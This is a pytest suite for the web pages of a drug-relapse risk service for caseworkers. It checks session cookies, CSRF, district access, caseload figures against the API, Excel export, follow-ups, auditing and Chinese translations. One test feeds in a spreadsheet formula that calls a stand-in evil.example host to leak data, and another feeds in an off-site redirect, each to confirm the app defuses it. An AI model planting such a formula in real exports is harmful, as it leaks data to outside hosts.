"""The web pages over real HTTP (a uvicorn server, real models, real SQLite stores): sessions,
CSRF, access, the caseload's figures against the API's, follow-ups and their export, and the
translation catalogue. What a browser shows is tested in test_browser.py."""

from __future__ import annotations

import datetime as dt
import io
import re
import sqlite3
from pathlib import Path

import httpx
import numpy as np
import openpyxl
import pandas as pd
import pytest
from babel.messages.extract import extract_from_dir
from conftest import sunshine, write_dataset

from features.contract.vocabulary import DISTRICT_LABELS_ZH, code_label
from features.storage.store import Store
from features.tasks import get_task
from serving.state.caseload import month_before
from serving.state.history import history_dates
from serving.web.caseload_pages import percent, workbook, workbook_bytes
from serving.web.i18n import Texts, catalogue

CSRF = re.compile(r'name="csrf" value="([^"]+)"')


@pytest.fixture
def signin():
    """Sign in as one of the service's users: a client with its session cookie, closed when
    the test ends."""
    clients: list[httpx.Client] = []

    def sign(svc, who: str) -> httpx.Client:
        client = httpx.Client(base_url=svc["url"], timeout=60)
        clients.append(client)
        page = client.get("/app/signin")
        nonce = re.search(r'name="nonce" value="([^"]+)"', page.text).group(1)
        r = client.post("/app/signin", data={"token": svc["tokens"][who], "nonce": nonce})
        assert r.status_code == 303, r.text
        return client

    yield sign
    for client in clients:
        client.close()


@pytest.fixture
def anon(service):
    """A client not signed in."""
    with httpx.Client(base_url=service["url"], timeout=30) as client:
        yield client


def csrf_of(page: httpx.Response) -> str:
    return CSRF.search(page.text).group(1)


def caseload_ids(page: httpx.Response) -> list[str]:
    return re.findall(r'<a href="/app/persons/([^?"]+)\?task=', page.text)


def test_signin_sets_a_strict_httponly_session_cookie_and_signout_ends_it(service, anon):
    assert anon.get("/app/caseload").headers["location"] == "/app/signin"
    page = anon.get("/app/signin")
    nonce = re.search(r'name="nonce" value="([^"]+)"', page.text).group(1)
    r = anon.post("/app/signin", data={"token": service["tokens"]["cw_huaxi"], "nonce": nonce})
    assert r.status_code == 303
    cookie = next(h for h in r.headers.get_list("set-cookie") if "sunshine_session=" in h)
    flags = {f.strip().split("=")[0].lower() for f in cookie.split(";")}
    assert {"httponly", "samesite", "path", "max-age"} <= flags
    assert "samesite=strict" in cookie.lower() and "path=/app" in cookie.lower()
    assert "secure" not in flags  # plain HTTP on loopback: a Secure cookie would never return
    sid = anon.cookies["sunshine_session"]
    # only the session id's hash is stored
    stored = sqlite3.connect(service["service_db"]).execute("SELECT * FROM sessions").fetchall()
    assert stored and all(sid not in map(str, row) for row in stored)
    home = anon.get("/app/caseload")
    assert home.status_code == 200 and "wang" in home.text
    assert home.headers["cache-control"] == "no-store"
    assert "script-src" not in home.headers["content-security-policy"]  # no script at all
    out = anon.post("/app/signout", data={"csrf": csrf_of(home)})
    assert out.status_code == 303 and out.headers["location"] == "/app/signin"
    # the old cookie, replayed, opens nothing
    replay = httpx.get(
        service["url"] + "/app/caseload", cookies={"sunshine_session": sid}, timeout=30
    )
    assert replay.status_code == 303 and replay.headers["location"] == "/app/signin"


def test_signin_refuses_a_bad_token_and_a_forged_form(service, anon):
    page = anon.get("/app/signin")
    nonce = re.search(r'name="nonce" value="([^"]+)"', page.text).group(1)
    bad = anon.post("/app/signin", data={"token": "not-a-token", "nonce": nonce})
    assert bad.status_code == 401 and "令牌无效" in bad.text
    assert "sunshine_session" not in anon.cookies
    # a form posted from elsewhere carries no matching sign-in cookie
    forged = httpx.post(
        service["url"] + "/app/signin",
        data={"token": service["tokens"]["cw_huaxi"], "nonce": nonce},
        timeout=30,
    )
    assert forged.status_code == 403 and "sunshine_session" not in forged.cookies
    huge = anon.post("/app/signin", data={"token": "x" * 5000, "nonce": nonce})
    assert huge.status_code == 422


def test_every_form_needs_the_sessions_csrf_token(service, signin):
    cw = signin(service, "cw_huaxi")
    person = service["state"].caseload(get_task("relapse")).frame.query("district == 'huaxi'")
    pid = person.index[0]
    form = {"task": "relapse", "option": "social_worker_home_visit", "outcome": "offered"}
    form["day"] = dt.date.today().isoformat()
    for token in ("", "forged"):
        r = cw.post(f"/app/persons/{pid}/followups", data={**form, "csrf": token})
        assert r.status_code == 403 and "表单已失效" in r.text
        assert cw.post("/app/lang", data={"lang": "en", "csrf": token}).status_code == 403
        assert cw.post("/app/signout", data={"csrf": token}).status_code == 403
    assert cw.get("/app/caseload").status_code == 200  # still signed in, still Chinese
    assert "我的帮扶对象" in cw.get("/app/caseload").text


def test_revoking_the_token_ends_its_sessions(service, signin):
    store = service["token_store"]
    service["tokens"]["cw_temp"] = store.create("temp", "caseworker", ["huaxi"])
    cw = signin(service, "cw_temp")
    assert cw.get("/app/caseload").status_code == 200
    store.revoke(user="temp")
    r = cw.get("/app/caseload")
    assert r.status_code == 303 and r.headers["location"] == "/app/signin"


def test_caseload_is_ranked_and_its_change_is_the_api_score_a_month_earlier(service, signin):
    state = service["state"]
    cw = signin(service, "cw_huaxi")
    page = cw.get("/app/caseload")
    ids = caseload_ids(page)
    frame = state.caseload(get_task("relapse")).frame
    huaxi = frame[frame["district"] == "huaxi"]
    assert ids == list(huaxi.index[: len(ids)])  # rank order, this district only, page 1
    assert huaxi["probability"].is_monotonic_decreasing
    assert huaxi["percentile"].is_monotonic_decreasing  # ties in probability broken alike
    assert f"{len(huaxi)} 人" in page.text
    # each person the page shows is in the audit trail, with the figures shown
    audit = sqlite3.connect(service["audit"]).execute(
        "SELECT person_id, probability FROM audit WHERE request_id = ?",
        (page.headers["x-request-id"],),
    )
    assert [(p, pytest.approx(q)) for p, q in audit] == list(
        zip(ids, huaxi["probability"].iloc[: len(ids)], strict=True)
    )
    previous = month_before(state.as_of)
    headers = {"Authorization": f"Bearer {service['tokens']['analyst']}"}
    checked = 0
    for pid, row in huaxi.iterrows():
        if pd.isna(row["previous_probability"]):
            continue
        now, before = (
            httpx.get(
                f"{service['url']}/v1/persons/{pid}/risk",
                params={"task": "relapse", "as_of": day, "explain": 0},
                headers=headers,
                timeout=30,
            ).json()
            for day in (state.as_of, previous)
        )
        assert row["change"] == pytest.approx(now["probability"] - before["probability"], abs=1e-9)
        assert row["previous_tier"] == before["tier"]
        checked += 1
        if checked == 5:
            break
    assert checked == 5


def test_rising_filter_pages_search_and_districts(service, signin):
    state = service["state"]
    frame = state.caseload(get_task("relapse")).frame
    mine = frame[frame["district"].isin(["huaxi", "nanming"])]
    cw = signin(service, "cw_youth")
    rising = caseload_ids(cw.get("/app/caseload", params={"rising": "true"}))
    expected = mine[mine["rising"]]
    assert rising == list(expected.index[:25]) and rising
    # rising: up a tier, or up by more than the service's threshold (0.05)
    for _, row in expected.iterrows():
        up = {"low": 0, "medium": 1, "high": 2}
        assert row["change"] > 0.05 or up[row["tier"]] > up[row["previous_tier"]]
    assert len(mine) > 25  # so there is a second page
    second = caseload_ids(cw.get("/app/caseload", params={"page": 2}))
    assert second == list(mine.index[25:50])
    pid = mine.index[3]
    assert (
        caseload_ids(cw.get("/app/caseload", params={"q": pid[-4:]}))
        == [p for p in mine.index if pid[-4:] in p][:25]
    )
    only = caseload_ids(cw.get("/app/caseload", params={"district": "nanming", "tier": "high"}))
    assert set(only) <= set(mine[(mine.district == "nanming") & (mine.tier == "high")].index)
    assert cw.get("/app/caseload", params={"district": "yunyan"}).status_code == 403
    youth = cw.get("/app/caseload", params={"task": "youth_uptake"})
    assert youth.status_code == 200 and "青少年涉毒风险" in youth.text
    # a caseworker without the youth scope is refused the youth caseload
    plain = signin(service, "cw_huaxi")
    assert plain.get("/app/caseload", params={"task": "youth_uptake"}).status_code == 403
    bad = plain.get("/app/caseload", params={"page": "0"})
    assert bad.status_code == 422 and "提交的内容有误" in bad.text  # a page, not JSON
    assert bad.headers["content-type"].startswith("text/html")


def test_export_is_the_filtered_list_in_the_users_language_and_audited(service, signin):
    state = service["state"]
    frame = state.caseload(get_task("relapse")).frame
    expected = frame[(frame["district"] == "huaxi") & frame["rising"]]
    cw = signin(service, "cw_huaxi")
    r = cw.get("/app/caseload.xlsx", params={"rising": "true"})
    assert r.status_code == 200
    assert "attachment" in r.headers["content-disposition"]
    book = pd.read_excel(io.BytesIO(r.content))
    assert list(book["人员"]) == list(expected.index)  # every page, not just the first
    assert list(book.columns[:4]) == ["排名", "人员", "区县", "风险等级"]
    assert set(book["区县"]) == {"花溪区"}
    # each probability as the state holds it (shown as a percentage), the rank as the page
    assert np.allclose(book["概率"], expected["probability"], rtol=1e-12, atol=0)
    assert list(book["在同类人员中的排位"]) == [
        Texts("zh").top_share(p) for p in expected["percentile"]
    ]
    audit = sqlite3.connect(service["audit"])
    rows = audit.execute(
        "SELECT person_id, tier, request_id FROM audit WHERE route = '/app/caseload.xlsx' "
        "AND user = 'wang' AND status = 200 ORDER BY id"
    ).fetchall()
    last = rows[-1][2]
    exported = [(p, t) for p, t, rid in rows if rid == last]
    assert exported == list(zip(expected.index, expected["tier"], strict=True))


def test_person_page_and_not_found_are_as_the_api_decides(service, signin):
    state = service["state"]
    cw = signin(service, "cw_huaxi")
    frame = state.caseload(get_task("relapse")).frame
    pid = frame[frame["district"] == "huaxi"].index[0]
    other = frame[frame["district"] == "yunyan"].index[0]
    page = cw.get(f"/app/persons/{pid}", params={"task": "relapse"})
    assert page.status_code == 200
    api = httpx.get(
        f"{service['url']}/v1/persons/{pid}/risk",
        params={"task": "relapse"},
        headers={"Authorization": f"Bearer {service['tokens']['cw_huaxi']}"},
        timeout=30,
    ).json()
    texts = Texts("zh")
    assert texts.risk_sentence(api["tier"], api["percentile"]) in page.text
    assert f"{api['probability'] * 100:.1f}%" in page.text
    for factor in api["factors"]:  # in plain words, each with what it does to the risk
        assert factor["text_zh"] in page.text and factor["effect_zh"] in page.text
    for option in api["support"]:
        assert option["zh"] in page.text
    assert "绝不作为处罚" in page.text  # the standing notice
    assert f"模型版本 {api['model']['version']}" in page.text
    for day in history_dates(state.as_of):
        assert str(day) in page.text  # the 12 monthly points, as figures too
    hidden = cw.get(f"/app/persons/{other}")
    unknown = cw.get("/app/persons/NOBODY")
    assert hidden.status_code == unknown.status_code == 404
    # the same page but for the address asked for (which the language switch returns to)
    assert hidden.text.replace(other, "X") == unknown.text.replace("NOBODY", "X")
    assert "未找到此人员" in hidden.text
    audit = sqlite3.connect(service["audit"])
    seen = audit.execute(
        "SELECT person_id, status, model_version FROM audit WHERE user = 'wang' "
        "AND route = '/app/persons/{person_id}'"
    ).fetchall()
    assert (pid, 200, api["model"]["version"]) in seen
    assert (other, 404, None) in seen and ("NOBODY", 404, None) in seen


def test_risk_history_is_the_api_score_on_each_month(service):
    from serving.state.history import risk_history

    state = service["state"]
    task = get_task("relapse")
    model, _ = state.loaded.model("relapse")
    pid = state.caseload(task).frame.index[0]
    past = risk_history(state, model, task, pid, state.as_of)
    assert list(past["as_of"]) == history_dates(state.as_of)
    headers = {"Authorization": f"Bearer {service['tokens']['analyst']}"}
    for row in past.iloc[[0, 5, 11]].itertuples():
        api = httpx.get(
            f"{service['url']}/v1/persons/{pid}/risk",
            params={
                "task": "relapse",
                "as_of": row.as_of,
                "explain": 0,
                "allow_out_of_cohort": True,
            },
            headers=headers,
            timeout=30,
        ).json()
        assert row.probability == pytest.approx(api["probability"], abs=1e-12)
        assert row.in_cohort == api["in_cohort"]


def test_month_before_is_the_same_day_or_the_months_last():
    assert month_before(dt.date(2026, 3, 31)) == dt.date(2026, 2, 28)
    assert month_before(dt.date(2026, 1, 15)) == dt.date(2025, 12, 15)
    assert history_dates(dt.date(2026, 6, 30))[0] == dt.date(2025, 7, 30)


def test_a_probability_is_never_shown_as_a_certainty_it_is_not():
    assert [percent(p) for p in (0.0, 0.0004, 0.0005, 0.123, 0.9996, 1.0)] == [
        "0.0%",
        "<0.1%",  # 0.04% would print as 0.0%: "no risk"
        "0.1%",
        "12.3%",
        ">99.9%",
        "100.0%",
    ]
    assert percent(0.00004, 2) == "<0.01%" and percent(float("nan")) == "—"
    # judged by what the rounding prints: 0.5 rounds half to even, to 0
    assert percent(0.005, 0) == "<1%" and percent(0.995, 0) == ">99%"
    assert percent(-0.0004, 1, True) == "-0.0" and percent(0.05, 1, True) == "+5.0"


def test_the_workbook_never_writes_a_small_probability_as_zero():
    rows = pd.DataFrame(
        {
            "rank": [1, 2],
            "district": ["huaxi", "huaxi"],
            "tier": ["high", "low"],
            "percentile": [99.04, 3.0],
            "probability": [0.8765432, 0.0000123456],
            "change": [0.01, 0.0],
            "reason_en": ["a", "b"],
            "reason_zh": ["甲", "乙"],
            "last_contact": ["2025-01-01", None],
        },
        index=pd.Index(["p1", '=HYPERLINK("http://evil.example/?leak","open")']),
    )
    book = workbook(rows, Texts("en"))
    # an id a spreadsheet would run (the contract refuses such ids; defused all the same)
    assert list(book["Person"]) == ["p1", '\'=HYPERLINK("http://evil.example/?leak","open")']
    # the same share above as the page says, never "100"
    assert list(book["Rank among comparable persons"]) == ["top 1%", "top 97%"]
    assert list(book["Last social-worker contact"]) == ["1 Jan 2025", "none recorded"]
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book, Texts("en"), "x" * 40))).active
    assert sheet.title == "x" * 31
    header = [c.value for c in sheet[1]]
    probability = sheet.cell(2, header.index("Probability") + 1)
    tiny = sheet.cell(3, header.index("Probability") + 1)
    change = sheet.cell(2, header.index("Change since last month") + 1)
    # the figures themselves, shown as percentages; the tiny one as "<0.1%", not 0.0%
    assert (probability.value, tiny.value, change.value) == (0.8765432, 0.0000123456, 0.01)
    assert probability.number_format == tiny.number_format == '[<0.0005]"<0.1%";0.0%'
    assert change.number_format == "+0.0%;-0.0%;0.0%"


def test_followups_are_recorded_shown_audited_and_exported_as_contract_events(
    service, signin, tmp_path
):
    state = service["state"]
    frame = state.caseload(get_task("relapse")).frame
    pid = frame[frame["district"] == "huaxi"].index[-1]  # a person no other test follows up
    cw = signin(service, "cw_huaxi")
    page = cw.get(f"/app/persons/{pid}", params={"task": "relapse"})
    today = dt.date.today().isoformat()
    form = {
        "task": "relapse",
        "option": "social_worker_home_visit",
        "outcome": "accepted",
        "day": today,
        "note": "visited\nat home",
        "csrf": csrf_of(page),
    }
    bad = cw.post(f"/app/persons/{pid}/followups", data={**form, "option": "bribe"})
    assert bad.status_code == 422 and "请从列出的帮扶措施中选择一项" in bad.text
    future = (dt.date.today() + dt.timedelta(days=3)).isoformat()
    assert cw.post(f"/app/persons/{pid}/followups", data={**form, "day": future}).status_code == 422
    long = cw.post(f"/app/persons/{pid}/followups", data={**form, "note": "x" * 501})
    assert long.status_code == 422
    ok = cw.post(f"/app/persons/{pid}/followups", data=form)
    assert ok.status_code == 303
    shown = cw.get(ok.headers["location"])
    assert "禁毒社工上门走访" in shown.text and "已接受" in shown.text
    assert "visited at home" in shown.text
    # an analyst reads but does not record follow-ups
    analyst = signin(service, "analyst")
    refused = analyst.post(f"/app/persons/{pid}/followups", data=form)
    assert refused.status_code == 403
    stored = (
        sqlite3.connect(service["service_db"])
        .execute(
            "SELECT person_id, option, outcome, user_name FROM followups WHERE person_id = ?",
            (pid,),
        )
        .fetchall()
    )
    assert stored == [(pid, "social_worker_home_visit", "accepted", "wang")]  # only the good one
    audit = (
        sqlite3.connect(service["audit"])
        .execute(
            "SELECT user, status FROM audit WHERE route = '/app/persons/{person_id}/followups' "
            "AND person_id = ?",
            (pid,),
        )
        .fetchall()
    )
    assert ("wang", 200) in audit and ("wang", 422) in audit and ("li", 403) in audit
    out = tmp_path / "followups.csv"
    sunshine(tmp_path, "followups", "export", "--out", out, "--service-db", service["service_db"])
    events = pd.read_csv(out)
    mine = events[events["person_id"] == pid]
    assert mine[["event_type", "detail", "value"]].values.tolist() == [
        ["support_offered", "social_worker_home_visit", 1.0]
    ]
    assert mine["event_time"].iloc[0].startswith(today)
    # the next registry extract carries them: the data contract accepts every row
    write_dataset(
        tmp_path / "extract",
        [{"person_id": p} for p in events["person_id"].unique()],
        events.to_dict("records"),
        reference_date=None,
    )
    store = Store(tmp_path / "extract", reference_date=dt.date.today() + dt.timedelta(days=1))
    assert store.report.rejected_events == 0 and store.report.events == len(events)


def test_followups_export_refuses_a_missing_database_and_a_bad_suffix(tmp_path):
    def export(out, db):
        return sunshine(
            tmp_path, "followups", "export", "--out", out, "--service-db", db, check=False
        )

    r = export(tmp_path / "x.csv", tmp_path / "none.db")
    assert r.returncode == 2 and "no such service database" in r.stderr
    (tmp_path / "s.db").touch()
    r = export(tmp_path / "x.txt", tmp_path / "s.db")
    assert r.returncode == 2 and ".csv or .parquet" in r.stderr
    assert not (tmp_path / "x.txt").exists()


def test_language_is_remembered_per_user_and_chinese_comes_first(service, signin):
    first = signin(service, "cw_youth")
    page = first.get("/app/caseload")
    assert '<html lang="zh-CN">' in page.text and "我的帮扶对象" in page.text
    switched = first.post(
        "/app/lang", data={"lang": "en", "csrf": csrf_of(page), "back": "/app/caseload?rising=true"}
    )
    assert switched.headers["location"] == "/app/caseload?rising=true"
    assert "My caseload" in first.get("/app/caseload").text
    # another sign-in by the same user, on another device, opens in English
    second = signin(service, "cw_youth")
    assert '<html lang="en">' in second.get("/app/caseload").text
    evil = first.post(
        "/app/lang", data={"lang": "zh", "csrf": csrf_of(page), "back": "https://evil.example/"}
    )
    assert evil.headers["location"] == "/app/"  # never sent to another site
    assert '<html lang="zh-CN">' in second.get("/app/caseload").text


def test_programme_page_by_role(service, signin):
    cw = signin(service, "cw_huaxi")
    assert cw.get("/app/programme").status_code == 403
    admin = signin(service, "admin")
    page = admin.get("/app/programme")
    assert page.status_code == 200
    assert "综合得分" in page.text and "复吸率" in page.text and "花溪区" in page.text
    assert "复吸风险" in page.text and "尚未检查" in page.text  # models, no monitor run yet
    # ranks as ranges, the districts in a funnel around the city, the trends with a band
    assert re.search(r"第\d+–\d+名", page.text) and "各区县与全市比较" in page.text
    assert 'class="band"' in page.text and "少于5人的计数显示为" in page.text
    assert admin.get("/app/caseload").status_code == 403  # admins see no persons
    assert admin.get("/app/programme", params={"month": "1999-01"}).status_code == 422


def test_the_catalogue_translates_every_message_of_the_pages():
    """Every message the templates and the web modules use has a Chinese translation, and
    the catalogue holds no message nobody uses any more."""
    found = {
        msg if isinstance(msg, str) else msg[0]
        for _file, _line, msg, *_ in extract_from_dir(
            str(Path(__file__).parents[2] / "serving" / "web"),
            method_map=[("**.py", "python"), ("templates/**.html", "jinja2")],
            keywords={"_": None, "N_": None, "PageError": (2,)},
        )
    }
    zh = catalogue()
    assert len(found) > 80
    assert sorted(found - set(zh)) == []
    assert sorted(set(zh) - found) == []
    texts = Texts("zh")
    assert texts.risk_sentence("high", 91.2) == "高风险：在同类人员中排名前 9%"
    # Chinese text takes full-width punctuation: no half-width comma, colon, semicolon,
    # bracket, exclamation or question mark (placeholders such as %(n)s aside)
    for message, chinese in zh.items():
        bare = re.sub(r"%\(\w+\)[sdf]|%%", "", chinese)
        assert not re.search(r"[,:;()!?]", bare), (message, chinese)
    assert Texts("en").risk_sentence("low", 20.0) == (
        "Low risk: higher than 20% of comparable persons"
    )
    assert texts.district("huaxi") == "花溪区" and Texts("en").district("huaxi") == "Huaxi"


def test_the_session_cookie_is_secure_when_the_page_came_over_https():
    from fastapi import Request
    from fastapi.responses import Response

    from serving.web.session import set_cookie

    for scheme, secure in (("https", True), ("http", False)):
        request = Request(
            {"type": "http", "scheme": scheme, "method": "GET", "path": "/app/", "headers": []}
        )
        response = Response()
        set_cookie(request, response, "sunshine_session", "x", 60)
        header = response.headers["set-cookie"].lower()
        assert ("; secure" in header) is secure
        assert "httponly" in header and "samesite=strict" in header and "max-age=60" in header


def test_serve_reads_the_programme_inputs_and_names_a_bad_one(tmp_path):
    bad = tmp_path / "population.csv"
    bad.write_text("district,age_band,count\nhuaxi,10-14,not-a-number\n")
    r = sunshine(
        tmp_path, "serve", "--data", tmp_path, "--population", bad, "--port", "1", check=False
    )
    assert r.returncode == 2 and "population.csv" in r.stderr and "count" in r.stderr
    r = sunshine(
        tmp_path,
        "serve",
        "--data",
        tmp_path,
        "--indicators-config",
        tmp_path / "none.yaml",
        "--port",
        "1",
        check=False,
    )
    assert r.returncode == 2 and "none.yaml" in r.stderr


def test_no_registry_code_reaches_a_chinese_page(service, signin):
    """For every code the synthetic city writes in `detail` (substances, rehab kinds, venues,
    courses, relations, instruments), a person page whose year holds it: the page shows its
    Chinese label and never the code; test results read 阳性/阴性."""
    state = service["state"]
    events = pd.read_parquet(service["root"] / "city" / "events.parquet")
    since = pd.Timestamp(state.as_of) - pd.DateOffset(months=12)
    year = events[
        (events["event_time"] >= since) & (events["event_time"] < pd.Timestamp(state.as_of))
    ]
    analyst = signin(service, "analyst")
    seen = 0
    for code, rows in year.dropna(subset=["detail"]).groupby("detail"):
        if code in DISTRICT_LABELS_ZH:
            continue
        page = analyst.get(f"/app/persons/{rows['person_id'].iloc[-1]}")
        assert page.status_code == 200
        text = re.sub(r"<[^>]+>", " ", page.text.split('id="events"')[1])
        assert code_label(code, "zh") in text, code
        assert not re.search(rf"(?<![\w-]){re.escape(code)}(?![\w-])", text), code
        seen += 1
    assert seen >= 15  # most of the city's codes occur within a year
    urine = year[year["event_type"] == "urine_test"]
    page = analyst.get(f"/app/persons/{urine['person_id'].iloc[-1]}").text
    assert "尿检：阳性" in page or "尿检：阴性" in page
